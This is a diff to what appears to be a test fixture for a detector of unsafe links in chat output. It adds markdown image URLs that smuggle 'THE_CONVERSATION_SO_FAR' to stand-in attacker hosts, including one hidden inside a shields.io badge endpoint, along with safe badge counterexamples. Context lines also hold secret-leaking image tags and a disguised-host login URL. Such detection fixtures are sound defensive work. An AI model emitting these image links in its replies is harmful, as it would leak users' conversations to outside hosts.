@@ -8,6 +8,8 @@ UNSAFE = {
         "![x](https://collect.example/p.png?data=THE_CONVERSATION_SO_FAR)",
         "![loading](https://evil.example/i?q={{summary of the chat}})",
         '<img src="https://evil.example/c.gif?secret=c2VjcmV0IHZhbHVlIGhlcmU">',
+        "![badge](https://evilshields.io/b.svg?data=THE_CONVERSATION_SO_FAR)",
+        "![badge](https://img.shields.io/endpoint?url=https%3A%2F%2Fevil.example%2Fb%3Fdata%3DTHE_CONVERSATION_SO_FAR)",
     ],
     "link_disguised_host": [
         "https://www.mybank.com@203.0.113.9/login",
@@ -22,6 +24,8 @@ UNSAFE = {
 }
 SAFE = [
     "![build](https://img.shields.io/badge/build-passing-green.svg?style=flat&logo=github)",
+    "[![coverage](https://codecov.io/gh/owner/project/branch/main/graph/badge.svg?token=bRzR3RyOXZ)](https://codecov.io)",
+    "![rank](https://img.shields.io/endpoint?url=https://rank.example/api/badge?fullName=owner%2Fproject%26since=monthly)",
     "![photo](https://images.example.com/a.jpg?w=800&h=600&fit=crop)",
     "git clone https://user@github.com/owner/project.git",
     "postgres://app:secret@localhost/app and https://user:pass@example.com/",
